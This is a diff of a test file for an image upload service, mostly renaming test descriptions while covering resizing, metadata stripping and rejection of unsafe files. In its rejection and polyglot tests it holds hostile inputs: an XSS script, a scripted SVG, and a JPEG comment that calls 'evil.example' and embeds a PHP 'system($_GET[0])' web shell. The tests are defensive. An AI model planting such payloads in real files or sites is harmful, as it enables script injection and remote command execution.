@@ -2,9 +2,9 @@ import { crc32, deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { createTestDatabase, type TestDatabase } from '#test/database.ts';
-import { addPerson } from '#test/person.ts';
 import { openPictures, plain, type TestPictures } from '#test/pictures.ts';
-import { hasStoredPictures } from './kept-files.ts';
+import { addPerson } from '#test/users.ts';
+import { hasStoredPictures } from './stored-files.ts';
 
 let database: TestDatabase;
 let pictures: TestPictures;
@@ -20,37 +20,31 @@ afterAll(async () => {
 const get = (address: string, headers = {}, method = 'GET') => pictures.app.request(address, { method, headers });
 const bytesOf = async (address: string) => Buffer.from(await (await get(address)).arrayBuffer());
 
-test.each(['jpeg', 'png', 'webp', 'avif'] as const)(
-  'a %s is taken and kept in all widths that it has, as AVIF and WebP',
-  async (format) => {
-    const bytes = await plain(700, 500).toFormat(format).toBuffer();
-    const { status, body } = await pictures.upload(bytes, 'C:\\wood\\Wild_Swans over the sea.JPG', { type: `image/${format}` });
-    expect(status).toBe(201);
-    expect(body).toMatchObject({
-      name: 'Wild Swans over the sea',
-      alt: '',
-      focal_x: 50,
-      focal_y: 50,
-      width: 700,
-      height: 500,
-      bytes: bytes.length,
-      uses: 0,
-    });
-    expect(body.address).toMatch(/^\/media\/[0-9a-f]{20}-700x500\/700\.webp$/);
-    const folder = body.address.slice(0, body.address.lastIndexOf('/'));
-    for (const width of [320, 640, 700]) {
-      for (const kept of ['webp', 'avif']) {
-        const facts = await sharp(await bytesOf(`${folder}/${width}.${kept}`)).metadata();
-        expect([facts.width, facts.format === 'heif' ? facts.compression : facts.format]).toEqual([
-          width,
-          kept === 'avif' ? 'av1' : 'webp',
-        ]);
-      }
+test.each(['jpeg', 'png', 'webp', 'avif'] as const)('a %s is stored in all available widths, as AVIF and WebP', async (format) => {
+  const bytes = await plain(700, 500).toFormat(format).toBuffer();
+  const { status, body } = await pictures.upload(bytes, 'C:\\wood\\Wild_Swans over the sea.JPG', { type: `image/${format}` });
+  expect(status).toBe(201);
+  expect(body).toMatchObject({
+    name: 'Wild Swans over the sea',
+    alt: '',
+    focal_x: 50,
+    focal_y: 50,
+    width: 700,
+    height: 500,
+    bytes: bytes.length,
+    uses: 0,
+  });
+  expect(body.address).toMatch(/^\/media\/[0-9a-f]{20}-700x500\/700\.webp$/);
+  const folder = body.address.slice(0, body.address.lastIndexOf('/'));
+  for (const width of [320, 640, 700]) {
+    for (const kept of ['webp', 'avif']) {
+      const facts = await sharp(await bytesOf(`${folder}/${width}.${kept}`)).metadata();
+      expect([facts.width, facts.format === 'heif' ? facts.compression : facts.format]).toEqual([width, kept === 'avif' ? 'av1' : 'webp']);
     }
-  },
-);
+  }
+});
 
-test('a large picture is kept at most 1920 wide, upright, in sRGB, without anything it told about camera or place', async () => {
+test('a large image is stored at most 1920 wide, upright, in sRGB and without metadata', async () => {
   const secret = 'Andersens hus, Odense';
   const bytes = await plain(2400, 3000)
     .withExif({ IFD0: { Artist: secret }, IFD3: { GPSLatitude: '55/1 24/1 0/1', GPSLatitudeRef: 'N' } })
@@ -71,7 +65,7 @@ test('a large picture is kept at most 1920 wide, upright, in sRGB, without anyth
   }
 });
 
-test('the same picture twice is one, also in another format and at the same time', async () => {
+test('uploading an image twice stores it once, also in another format and concurrently', async () => {
   const picture = plain(60, 40);
   const [png, webp] = [await picture.clone().png().toBuffer(), await picture.clone().webp({ lossless: true }).toBuffer()];
   const first = await Promise.all([pictures.upload(png), pictures.upload(png), pictures.upload(webp, 'b.webp', { type: 'image/webp' })]);
@@ -86,7 +80,7 @@ test('the same picture twice is one, also in another format and at the same time
   expect(rows).toEqual([{ count: 1 }]);
 });
 
-test('a picture is served for a year, with a tag, and cannot do anything', async () => {
+test('an image is served with a one-year cache, an ETag and a restrictive policy', async () => {
   const { address } = (await pictures.upload(await plain(50, 50).png().toBuffer())).body;
   const answer = await get(address);
   expect(answer.status).toBe(200);
@@ -104,7 +98,7 @@ test('a picture is served for a year, with a tag, and cannot do anything', async
   expect([head.status, head.headers.get('content-length'), await head.text()]).toEqual([200, answer.headers.get('content-length'), '']);
 });
 
-test('at any other address there is nothing', async () => {
+test('any other address returns 404', async () => {
   const { address } = (await pictures.upload(await plain(400, 300).png().toBuffer())).body;
   const folder = address.slice(0, address.lastIndexOf('/'));
   const wrong = [
@@ -127,43 +121,50 @@ test('at any other address there is nothing', async () => {
   expect((await get('/media/00000000000000000000-400x300/400.webp', { 'if-none-match': tag })).status).toBe(404);
 });
 
-/** Each with the type that it is sent with. */
+/** Files with the content types they are sent with. */
 const refused: [name: string, status: number, code: string, says: RegExp, type: string, make: () => Buffer | Promise<Buffer>][] = [
   ['nothing', 415, 'type_not_taken', /empty/, 'image/png', () => Buffer.alloc(0)],
-  ['text', 415, 'type_not_taken', /no picture that we know/, 'image/png', () => Buffer.from('Once upon a time')],
-  ['a page', 415, 'type_not_taken', /no picture that we know/, 'image/jpeg', () => Buffer.from('<!doctype html><script>alert(1)</script>')],
+  ['text', 415, 'type_not_taken', /not a known image format/, 'image/png', () => Buffer.from('Once upon a time')],
+  [
+    'a page',
+    415,
+    'type_not_taken',
+    /not a known image format/,
+    'image/jpeg',
+    () => Buffer.from('<!doctype html><script>alert(1)</script>'),
+  ],
   ['an SVG with a script', 415, 'type_not_taken', /SVG drawing/, 'image/svg+xml', () => svg()],
   [
-    'an SVG that calls itself PNG',
+    'an SVG named as PNG',
     415,
     'type_not_taken',
     /SVG drawing/,
     'image/png',
     () => Buffer.from(`<?xml version="1.0"?>\n<!-- x -->\n${svg()}`),
   ],
-  ['a GIF', 415, 'type_not_taken', /GIF picture/, 'image/gif', () => plain(9, 9).gif().toBuffer()],
-  ['a GIF that moves', 415, 'type_not_taken', /GIF picture/, 'image/gif', () => moving('gif')],
-  ['a TIFF', 415, 'type_not_taken', /TIFF picture/, 'image/tiff', () => plain(9, 9).tiff().toBuffer()],
-  ['a HEIC', 415, 'type_not_taken', /HEIC picture/, 'image/heic', () => Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1')],
+  ['a GIF', 415, 'type_not_taken', /GIF image/, 'image/gif', () => plain(9, 9).gif().toBuffer()],
+  ['an animated GIF', 415, 'type_not_taken', /GIF image/, 'image/gif', () => moving('gif')],
+  ['a TIFF', 415, 'type_not_taken', /TIFF image/, 'image/tiff', () => plain(9, 9).tiff().toBuffer()],
+  ['a HEIC', 415, 'type_not_taken', /HEIC image/, 'image/heic', () => Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1')],
   ['a PDF', 415, 'type_not_taken', /PDF document/, 'image/jpeg', () => Buffer.from('%PDF-1.7 x')],
-  ['a JPEG that calls itself PNG', 415, 'wrong_type', /calls itself PNG but is JPEG/, 'image/png', () => plain(9, 9).jpeg().toBuffer()],
-  ['a WebP that calls itself something', 415, 'wrong_type', /is WebP/, 'image/x-odd', () => plain(9, 9).webp().toBuffer()],
-  ['a WebP that moves', 422, 'animated', /moves/, 'image/webp', () => moving('webp')],
+  ['a JPEG named as PNG', 415, 'wrong_type', /named as PNG but is JPEG/, 'image/png', () => plain(9, 9).jpeg().toBuffer()],
+  ['a WebP of an unknown type', 415, 'wrong_type', /is WebP/, 'image/x-odd', () => plain(9, 9).webp().toBuffer()],
+  ['an animated WebP', 422, 'animated', /Animated images/, 'image/webp', () => moving('webp')],
   [
-    'a PNG that moves',
+    'an animated PNG',
     422,
     'animated',
-    /moves/,
+    /Animated images/,
     'image/png',
     async () => withChunk(await plain(9, 9).png().toBuffer(), 'acTL', Buffer.alloc(8)),
   ],
-  ['an AVIF that moves', 422, 'animated', /moves/, 'image/avif', () => Buffer.from('\0\0\0\x18ftypavis\0\0\0\0avifavis', 'latin1')],
-  ['a JPEG that is cut off', 422, 'broken', /damaged or cut off/, 'image/jpeg', () => half('jpeg')],
-  ['a PNG that is cut off', 422, 'broken', /damaged or cut off/, 'image/png', () => half('png')],
-  ['a WebP that is cut off', 422, 'broken', /damaged or cut off/, 'image/webp', () => half('webp')],
-  ['an AVIF that is cut off', 422, 'broken', /damaged or cut off/, 'image/avif', () => half('avif')],
+  ['an animated AVIF', 422, 'animated', /Animated images/, 'image/avif', () => Buffer.from('\0\0\0\x18ftypavis\0\0\0\0avifavis', 'latin1')],
+  ['a truncated JPEG', 422, 'broken', /damaged or incomplete/, 'image/jpeg', () => half('jpeg')],
+  ['a truncated PNG', 422, 'broken', /damaged or incomplete/, 'image/png', () => half('png')],
+  ['a truncated WebP', 422, 'broken', /damaged or incomplete/, 'image/webp', () => half('webp')],
+  ['a truncated AVIF', 422, 'broken', /damaged or incomplete/, 'image/avif', () => half('avif')],
   [
-    'the head of a JPEG before rubbish',
+    'a JPEG header before garbage',
     422,
     'broken',
     /damaged/,
@@ -174,7 +175,7 @@ const refused: [name: string, status: number, code: string, says: RegExp, type: 
   ['a PNG of 41 million pixels', 422, 'too_many_pixels', /40 million pixels/, 'image/png', () => plain(8200, 5000).png().toBuffer()],
   ['more than 8 MB', 413, 'too_large', /8 MB/, 'image/png', () => Buffer.alloc(8 * 1024 * 1024 + 1)],
 ];
-test.each(refused)('%s is refused with a sentence, and nothing is kept', async (_, status, code, says, type, make) => {
+test.each(refused)('%s is rejected with a message, and nothing is stored', async (_, status, code, says, type, make) => {
   const before = await pictures.store.list();
   const answer = await pictures.upload(await make(), 'x', { type });
   expect([answer.status, answer.body.code]).toEqual([status, code]);
@@ -183,7 +184,7 @@ test.each(refused)('%s is refused with a sentence, and nothing is kept', async (
   expect(await pictures.rows('select from media where ready_at is null')).toEqual([]);
 });
 
-test('what no picture is, and what another site sends, does not come as far', async () => {
+test('invalid files and cross-origin uploads are rejected early', async () => {
   const bytes = await plain(9, 9).png().toBuffer();
   expect((await pictures.upload(bytes, 'x', { type: 'text/plain' })).status).toBe(415);
   expect((await pictures.upload(bytes, 'x', { type: 'multipart/form-data; boundary=x' })).status).toBe(415);
@@ -194,7 +195,7 @@ test('what no picture is, and what another site sends, does not come as far', as
   expect((await pictures.upload(bytes, 'x', { as: { cookie: '' } })).status).toBe(401);
 });
 
-test('of a file that is a picture and something else nothing but the picture is kept', async () => {
+test('of a polyglot file only the image is stored', async () => {
   const evil = '<script>fetch("https://evil.example")</script><?php system($_GET[0]); ?>';
   const base = await plain(30, 30).jpeg().toBuffer();
   const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, evil.length + 2]), Buffer.from(evil)]);
@@ -218,7 +219,7 @@ async function moving(format: 'gif' | 'webp'): Promise<Buffer> {
     .toBuffer();
 }
 
-/** The first half of a picture that does not compress well. */
+/** The first half of an image that compresses badly. */
 async function half(format: 'jpeg' | 'png' | 'webp' | 'avif'): Promise<Buffer> {
   const noise = sharp({
     create: { width: 300, height: 300, channels: 3, background: 'black', noise: { type: 'gaussian', mean: 128, sigma: 60 } },
@@ -227,7 +228,7 @@ async function half(format: 'jpeg' | 'png' | 'webp' | 'avif'): Promise<Buffer> {
   return bytes.subarray(0, bytes.length / 2);
 }
 
-/** A few bytes that claim to be very many pixels. */
+/** A few bytes that claim many pixels. */
 function hugePng(width: number, height: number): Buffer {
   const head = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 8, 0, 0, 0, 0]);
   head.writeUInt32BE(width, 0);
@@ -249,7 +250,7 @@ function chunk(type: string, data: Buffer): Buffer {
   return Buffer.concat([length, body, sum]);
 }
 
-test('pictures that the store does not have are found out', async () => {
+test('images missing in the store are detected', async () => {
   await pictures.upload(await plain(400, 300).png().toBuffer(), 'here.png', { type: 'image/png' });
   expect(await hasStoredPictures(database.pool, pictures.store)).toBe(true);
   expect(await hasStoredPictures(database.pool, { has: async () => false })).toBe(false);
